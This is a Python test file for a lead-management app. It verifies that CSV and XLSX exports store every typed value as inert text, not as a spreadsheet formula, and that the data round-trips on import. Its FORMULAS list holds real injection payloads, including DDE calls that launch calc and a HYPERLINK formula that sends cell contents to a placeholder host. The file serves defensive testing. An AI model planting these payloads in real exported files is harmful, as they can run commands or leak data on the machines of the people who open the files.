"""Formula injection (quality.md row 19): what was typed leaves in a CSV or XLSX file as text, and comes back as it was."""

from __future__ import annotations

import csv
import re
import zipfile
from pathlib import Path

import pytest

from frontdesk.services import lists, practices
from frontdesk.services.leads import LeadFacts, create_lead, enter_lead
from frontdesk.services.people import PersonFields
from tests.cli.shell import Shell
from tests.services.practice import Clock

FORMULAS = (
    "=1+1", "=cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "＝1", "＋1", "－1", "＠a", "+1+2", '=HYPERLINK("http://x/?"&A1)', "|calc", "%0A=1",
    '=WEBSERVICE("http://x")', "+cmd|'/C calc'!A1", "-1", "'=1+1", "''=1", "=1+1\n=2", "+44 20 7946 0000 =1", "=DDE(\"cmd\";\"/C calc\";\"x\")", "@A1:B2",
    "=IMPORTXML(\"http://x\",\"//a\")", "-cmd", "+", "=", "@", "'+41 79 111 22 33", "=\u202e1", "=A1&\"\u00e9\"",
)  # fmt: skip
PHONE = "+44 20 7946 0958"
DANGEROUS = tuple("=+-@\t\r\n|%＝＋－＠")
PHONE_LIKE = re.compile(r"\+[\d \-().]+")


@pytest.fixture
def filled(shell: Shell) -> Shell:
    """A practice in which every text that can be typed is a formula."""
    desk = practices.open_desk(shell.place, person="Ada", clock=Clock())
    with desk.database:
        for number, text in enumerate(FORMULAS):
            line = text.replace("\n", " ")
            person = PersonFields("A", line, (f"020 7946 {number:04}",), (f"a{number}@example.com",), postal_code=line[:20])
            facts = LeadFacts(interest=line, best_time=line, external_key=f"K{number}", note=text)
            desk.do(enter_lead, person=person, facts=facts, source=f"{line} source {number}", campaign=f"{line} campaign {number}")
        desk.do(create_lead, person=PersonFields("Plain", "Person", (PHONE,)), facts=LeadFacts(external_key="-5"))
    return shell


def typed(place: Path | str) -> set[tuple[str, ...]]:
    """The texts as the practice has them."""
    desk = practices.open_desk(place, person="Ada", clock=Clock())
    with desk.database:
        known = desk.ask(lists.choices)
        profiles = [desk.ask(lists.profile, lead_id=each) for each in desk.ask(lists.lead_ids)]
        return {
            (
                each.case.lead.external_key or "",
                each.person.last_name,
                each.case.lead.interest,
                each.case.lead.best_time,
                each.person.postal_code,
                known.sources.get(each.case.lead.source_id or 0, ""),
                known.campaigns.get(each.case.lead.campaign_id or 0, ""),
                *(point.canonical for point in each.person.points),
                *(moment.note for moment in each.timeline if moment.note),
            )
            for each in profiles
        }


def test_no_cell_of_a_csv_export_is_a_formula_and_phones_stay_readable(filled: Shell, tmp_path: Path) -> None:
    target = tmp_path / "leads.csv"
    assert filled.ok("export", str(target), clock=None)["leads"] == len(FORMULAS) + 1
    with target.open(encoding="utf-8-sig", newline="") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    loose = [cell for cell in cells if cell.lstrip(" \u00a0\u200b\ufeff").startswith(DANGEROUS)]
    assert [cell for cell in loose if not PHONE_LIKE.fullmatch(cell)] == []
    assert PHONE in cells


def test_no_cell_of_an_xlsx_export_is_a_formula(filled: Shell, tmp_path: Path) -> None:
    target = tmp_path / "leads.xlsx"
    filled.ok("export", str(target), clock=None)
    with zipfile.ZipFile(target) as archive:
        parts = {name: archive.read(name).decode() for name in archive.namelist() if name.endswith((".xml", ".rels"))}
    sheets = [text for name, text in parts.items() if "worksheets/sheet" in name]
    assert sheets
    for text in sheets:
        assert "<f" not in text.replace("<formatPr", "")
        kinds = re.findall(r"<c [^>]*?>", text)
        assert kinds
        assert all(re.search(r't="(s|inlineStr|str)"', each) for each in kinds if not each.endswith("/>"))
    assert not any("externalLink" in name or 'TargetMode="External"' in text for name, text in parts.items())


@pytest.mark.parametrize("ending", ["csv", "xlsx", "json"])
def test_what_was_exported_is_imported_as_it_was_typed(filled: Shell, nowhere: Shell, tmp_path: Path, ending: str) -> None:
    target = tmp_path / f"leads.{ending}"
    filled.ok("export", str(target), clock=None)
    nowhere.ok("init", "--person", "Ada", "--country", "GB", clock=None)
    done = nowhere.ok("import", str(target), "--create", "sources,people", clock=None)
    assert done["refused"] == []
    assert done["created"] == len(FORMULAS) + 1
    assert typed(nowhere.place) == typed(filled.place)
